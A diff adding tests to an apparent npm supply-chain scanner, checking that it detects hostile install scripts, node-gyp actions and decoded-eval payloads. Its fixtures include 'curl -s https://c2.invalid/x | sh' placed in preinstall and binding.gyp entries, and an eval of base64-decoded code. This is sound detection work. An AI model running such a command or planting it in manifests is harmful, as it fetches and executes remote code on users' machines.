@@ -325,3 +325,84 @@ describe('archives', () => {
     expect(unknowns.map((u) => [u.reason, u.losesComponents])).toEqual([['archive', true]]);
   });
 });
+
+describe('what the package manager would run', () => {
+  const command = 'curl -s https://c2.invalid/x | sh';
+  const hostile = JSON.stringify({ name: 'p', scripts: { preinstall: command } });
+  const scripts = (
+    json: string,
+    more: Readonly<Record<string, string>> = {},
+  ): Readonly<Record<string, string>> => manifestOf(files({ 'package.json': json, ...more })).scripts;
+
+  test('the manifest as npm reads it: a byte-order mark, the last of two keys', () => {
+    expect(scripts(`\ufeff${hostile}`)).toEqual({ preinstall: command });
+    expect(scripts('{"scripts":{"install":"a"},"scripts":{"install":"b"}}')).toEqual({ install: 'b' });
+    expect(manifestOf(files({ 'package.json': '{' })).unread).toHaveLength(1);
+    expect(manifestOf(files({ 'package.json': '[]' })).unread).toHaveLength(1);
+  });
+
+  test('scripts that run others, with what runs before and after', () => {
+    const json = '{"scripts":{"postinstall":"npm run b","b":"x","preb":"y","postb":"z","other":"-"}}';
+    expect(scripts(json)).toEqual({ postinstall: 'npm run b', preb: 'y', b: 'x', postb: 'z' });
+  });
+
+  test('node-gyp, unless the package builds by itself or says that it does not build', () => {
+    const gyp = { 'any.gyp': '{}' };
+    expect(scripts('{}', gyp)).toEqual({ install: 'node-gyp rebuild' });
+    expect(scripts('{"gypfile":false}', gyp)).toEqual({});
+    expect(scripts('{"scripts":{"preinstall":"a"}}', gyp)).toEqual({ preinstall: 'a' });
+    expect(scripts('{}', { 'deps/any.gyp': '{}' })).toEqual({});
+  });
+
+  test.each<[string, Readonly<Record<string, string>>]>([
+    ['an action of node-gyp', { 'binding.gyp': `{"actions":[{"action":["sh","-c","${command}"]}]}` }],
+    ['a value of node-gyp', { 'binding.gyp': `{'variables': {'x': '<!(${command})'}}` }],
+    ['a dependency that comes along', { 'node_modules/b/package.json': hostile }],
+    ['the manifest in capitals', { 'PACKAGE.JSON': hostile }],
+  ])('%s', async (_, more) => {
+    const manifest = 'PACKAGE.JSON' in more ? {} : { 'package.json': '{"name":"p"}' };
+    expect(await high({ ...manifest, ...more })).toContain('dropper');
+  });
+
+  test('how others read gyp files is no alarm', async () => {
+    const gyp = `{'targets': [{'include_dirs': ['<!(node -p "require(\\'node-addon-api\\').include")']}]}`;
+    const { files: seenFiles } = await profile({ 'package.json': '{}', 'binding.gyp': gyp });
+    expect(seenFiles.flatMap((f) => f.evidence.map((e) => e.capability))).not.toContain('install-script');
+  });
+
+  test('what was not analysed is told', async () => {
+    const told = async (text: string, name = 'a.js'): Promise<string[]> => {
+      const json = JSON.stringify({ scripts: { postinstall: `node ${name}` } });
+      return (await profile({ 'package.json': json, [name]: text })).unknowns.map((u) => u.reason);
+    };
+    expect(await told('['.repeat(5000) + ']'.repeat(5000))).toEqual(['too-deep']);
+    expect(await told('}}}')).toEqual(['unparseable']);
+    expect(await told('x;'.repeat(3 * 1024 * 1024))).toEqual(['too-large']);
+    expect(await told(Array.from({ length: 2100 }, (_, i) => `"https://h${i}.org"`).join(';'))).toEqual([
+      'too-large',
+    ]);
+    expect(await told('module.exports = 1;')).toEqual([]);
+  });
+
+  test('a main file in a test folder is code; a text that a command names runs', async () => {
+    const code = "eval(Buffer.from('eA==', 'base64').toString());";
+    expect(await high({ 'package.json': '{"main":"./test/a"}', 'test/a.js': code })).toEqual([
+      'decoded-program',
+    ]);
+    expect(await high({ 'package.json': '{"main":"./b"}', 'b.js': '', 'test/a.js': code })).toEqual([]);
+    expect(await high({ 'package.json': '{"scripts":{"install":"node a.txt"}}', 'a.txt': code })).toContain(
+      'install-payload',
+    );
+  });
+
+  test('several top folders are one package, and the last of two files counts', async () => {
+    const tar = makeTar([
+      { name: 'package/package.json', content: '{}' },
+      { name: 'other/package.json', content: hostile },
+      { name: 'third/a.js', content: '' },
+    ]);
+    const { files: read, unknowns } = await readArchive(tar, 'a.tgz');
+    expect([read.map((f) => f.path).sort(), unknowns]).toEqual([['a.js', 'package.json'], []]);
+    expect(manifestOf(read).scripts).toEqual({ preinstall: command });
+  });
+});
